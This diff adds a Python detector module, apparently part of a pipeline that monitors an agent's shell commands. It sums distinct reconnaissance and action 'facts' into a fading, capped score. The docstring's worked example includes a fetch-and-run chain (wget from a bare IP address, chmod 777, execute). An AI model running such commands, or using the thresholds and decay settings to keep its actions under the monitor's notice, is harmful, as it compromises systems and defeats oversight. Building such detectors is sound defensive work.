@@ -1,0 +1,153 @@
+"""Distinct facts of one story, seen in one agent's commands: a bounded, fading sum.
+
+A single harmless command proves little and is typed all day. What tells a story is that DIFFERENT facts of it come
+together: what the machine is, who is on it, a file fetched from a bare address, made executable, run. So every fact
+counts once while it is remembered, and the sum is a naive Bayes over facts with two guards against long ordinary work:
+
+```
+ facts 0 .. 11   looks   looking around: capped together, and worn down by every ordinary command (Page 1954)
+ facts 12 .. 30  acts    doing something: each counts, worn down slowly
+ beyond a fact   excess  what the command itself says beyond its facts (a scan of 254 hosts, not of 12): the largest
+```
+
+    level   uname   w   free   ls   cd   wget http://203.0.113.5/x   chmod 777 x   ./x
+     looks   0.5   1.9   2.6   2.3  2.0         2.0                       2.0       2.0
+     acts     -     -     -     -    -          2.4                       3.4       3.6
+
+Page, E. S. (1954), Continuous inspection schemes, Biometrika 41: a sum of log-likelihood ratios that is held at zero.
+"""
+
+from __future__ import annotations
+
+from typing import Annotated, Any, Final
+
+import msgspec
+import numpy as np
+from msgspec import Meta
+from numpy.typing import NDArray
+
+from pipeline.kernels.compiled import kernel
+
+__all__ = ["FACTS", "LOOKS", "STATE", "WHY", "FactSettings", "step"]
+
+FACTS: Final = 31
+LOOKS: Final = 12
+
+STATE: Final = np.dtype(
+    [
+        ("last", "i8"),  # µs, the latest event so far
+        ("turned", "i8"),  # µs, when `now` was begun
+        ("looks", "f8"),
+        ("acts", "f8"),
+        ("excess", "f8"),
+        ("now", "u4"),  # facts seen since `turned`, one bit each
+        ("before", "u4"),  # facts seen in the span before
+        ("started", "u1"),
+    ]
+)
+
+WHY: Final = np.dtype(
+    [
+        ("own", "f8"),  # nats, what the command says by itself
+        ("sum", "f8"),  # nats, with what was seen before it
+        ("fact", "u4"),  # facts of this command
+        ("seen", "u4"),  # facts remembered, these included
+    ]
+)
+
+
+class FactSettings(msgspec.Struct, frozen=True):
+    """What the five command detectors set; each gives its own defaults.
+
+    Example:
+        >>> len(FactSettings().nats) == FACTS
+        True
+    """
+
+    half_life_s: Annotated[float, Meta(description="s until evidence counts half", gt=0)] = 1800.0
+    cap: Annotated[float, Meta(description="nats, the most it may say", gt=0)] = 9.0
+    nats: Annotated[
+        tuple[float, ...],
+        Meta(description="nats of each fact, in the order of the table FACTS", min_length=FACTS, max_length=FACTS),
+    ] = (0.0,) * FACTS
+    looks_cap: Annotated[float, Meta(description="nats, the most that looking around may say", ge=0)] = 4.0
+    looks_wear: Annotated[float, Meta(description="nats that an ordinary command takes from looking around", ge=0)] = 0.2
+    acts_wear: Annotated[float, Meta(description="nats that an ordinary command takes from acts", ge=0)] = 0.02
+    memory_s: Annotated[
+        float, Meta(description="s, a fact counts again when it was not seen for one to two of these", gt=0)
+    ] = 3600.0
+
+
+@kernel
+def step(
+    ts: NDArray[np.int64],
+    agent: NDArray[np.int32],
+    weight: NDArray[np.float64],
+    fact: NDArray[np.uint32],
+    state: Any,
+    settings: Any,
+    strength: NDArray[np.float64],
+    why: Any,
+) -> None:
+    """Walk command rows as `pipeline.detectors` lays down.
+
+    >>> from pipeline.kernels.settings import record
+    >>> settings = record(FactSettings(nats=(0.5,) * 12 + (2.0,) * 19))
+    >>> state, out, why = np.zeros(1, STATE), np.zeros(3), np.zeros(3, WHY)
+    >>> facts = np.array([1 << 12, 1 << 13, 1 << 12], np.uint32)
+    >>> step(np.zeros(3, np.int64), np.zeros(3, np.int32), np.full(3, 2.0), facts, state, settings, out, why)
+    >>> out.tolist()
+    [2.0, 4.0, 4.0]
+    """
+    half_life = settings[0]["half_life_s"] * 1e6
+    memory = settings[0]["memory_s"] * 1e6
+    cap = settings[0]["cap"]
+    looks_cap = settings[0]["looks_cap"]
+    looks_wear = settings[0]["looks_wear"]
+    acts_wear = settings[0]["acts_wear"]
+    for i in range(ts.size):
+        a = agent[i]
+        if state[a]["started"] == 0:
+            state[a]["started"] = 1
+            state[a]["last"] = ts[i]
+            state[a]["turned"] = ts[i]
+        gone = ts[i] - state[a]["last"]
+        if gone > 0:
+            fade = 0.5 ** (gone / half_life)
+            state[a]["last"] = ts[i]
+            state[a]["looks"] *= fade
+            state[a]["acts"] *= fade
+            state[a]["excess"] *= fade
+        since = ts[i] - state[a]["turned"]
+        if since > memory:
+            state[a]["before"] = state[a]["now"] if since <= 2.0 * memory else 0
+            state[a]["now"] = 0
+            state[a]["turned"] = ts[i]
+        facts = np.int64(fact[i])
+        if facts == 0:
+            state[a]["looks"] = max(0.0, state[a]["looks"] - looks_wear)
+            state[a]["acts"] = max(0.0, state[a]["acts"] - acts_wear)
+            continue
+        seen = np.int64(state[a]["now"]) | np.int64(state[a]["before"])
+        known = 0.0
+        looks = state[a]["looks"]
+        acts = state[a]["acts"]
+        for k in range(FACTS):
+            if (facts >> k) & 1:
+                nats = settings[0]["nats"][k]
+                known += nats
+                if not (seen >> k) & 1:
+                    if k < LOOKS:
+                        looks += nats
+                    else:
+                        acts += nats
+        state[a]["looks"] = min(looks, looks_cap)
+        state[a]["acts"] = min(acts, cap)
+        state[a]["excess"] = max(state[a]["excess"], weight[i] - known)
+        state[a]["now"] = np.int64(state[a]["now"]) | facts
+        total = state[a]["looks"] + state[a]["acts"] + state[a]["excess"]
+        strength[i] = min(cap, max(total, weight[i]))
+        why[i]["own"] = weight[i]
+        why[i]["sum"] = strength[i]
+        why[i]["fact"] = facts
+        why[i]["seen"] = seen | facts
